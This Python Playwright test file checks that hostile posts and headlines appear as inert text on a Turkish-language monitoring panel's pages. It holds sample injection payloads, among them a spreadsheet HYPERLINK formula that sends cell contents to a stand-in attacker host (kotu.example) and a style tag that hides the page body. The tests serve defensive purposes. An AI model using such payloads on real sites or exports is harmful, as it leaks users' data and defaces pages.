"""Posts, headlines and notes that mean ill, on every page that shows them: text, and nothing but text."""

from __future__ import annotations

from urllib.parse import quote

from playwright.sync_api import Browser, Page

from storage import opened
from tests.browser.hostile import ADDRESS, HEADLINES, LONG, POSTS
from tests.browser.page_checks import Watch, plain, whole
from tests.browser.town import Town

OURS = """() => ({
  scripts: [...document.scripts].map(s => s.outerHTML.slice(0, 80)), handlers: document.querySelectorAll('[onload], [onerror], [onclick]').length,
  strange: [...document.querySelectorAll('a[href]')].map(a => a.protocol).filter(p => !['http:', 'https:'].includes(p)),
  styles: document.querySelectorAll('main style, main svg, main iframe, main object, [style]').length,
})"""


def places(town: Town) -> list[str]:
    """Every page that names one of the hostile texts, and their lists."""
    with opened(town.settings.database, town.settings.zone, read_only=True) as storage:
        rows = storage.connection.execute(
            "SELECT account, post FROM posts WHERE url = ? GROUP BY substr(text, 1, 20)", (ADDRESS,)
        ).fetchall()
        articles = storage.connection.execute("SELECT article FROM articles WHERE url = ? GROUP BY title", (ADDRESS,)).fetchall()
    assert len(rows) == len(POSTS) and len(articles) == len(HEADLINES)
    found = [f"/gonderiler/{quote(account)}/{quote(post, safe='')}" for account, post in rows]
    found += [f"/haberler/{article}" for (article,) in articles]
    lists = (
        "/gonderiler?donem=tumu",
        "/gonderiler?donem=2026-H1&ara=kotu.example",
        "/haberler?donem=tumu",
        "/haberler?donem=tumu&ara=script",
    )
    return [*found, *lists, "/haberler/konular?donem=tumu", "/plan?donem=2026-H1&hafta=2026-W19", "/gosterge/PG3.1.4?donem=2026-H1",
            "/gosterge/PG3.1.6?donem=2026-H1", "/anlik-goruntuler", f"/gonderiler?ara={quote(POSTS[0])}"]  # fmt: skip


def test_nothing_of_them_is_run_and_no_page_breaks(browser: Browser, panel: str, town: Town) -> None:
    page = browser.new_page(viewport={"width": 390, "height": 844})
    watch = Watch(page, panel)
    page.on("dialog", lambda dialog: watch.heard.append(f"a dialog: {dialog.message}"))
    wrong: list[str] = []
    for place in places(town):
        page.goto(panel + place)
        whole(page)
        told = [*plain(page, "tr", phone=True), *inert(page), *watch.take()]
        wrong += [f"{place}: {text}" for text in told]
    page.close()
    assert not wrong, "\n".join(wrong)


def inert(page: Page) -> list[str]:
    about = page.evaluate(OURS)
    wrong = [f"{name}: {found}" for name, found in about.items() if found]
    return wrong if "SONU" not in page.title() else [*wrong, "ten thousand letters in its title"]


def test_they_can_be_read_as_they_are(browser: Browser, panel: str) -> None:
    page = browser.new_page()
    page.goto(f"{panel}/gonderiler?donem=tumu&ara=kotu.example")
    assert '=HYPERLINK("https://kotu.example/?"&A1;"tıkla")' in page.locator("main").inner_text()
    page.goto(f"{panel}/haberler?donem=tumu&ara=display:none")
    assert "<style>body{display:none}</style>" in page.locator("main").inner_text()
    page.goto(f"{panel}/gonderiler?donem=tumu&ara={LONG[-20:]}")
    page.locator("tbody a").first.click()
    assert page.locator("blockquote").inner_text().endswith("SONU")
    page.close()
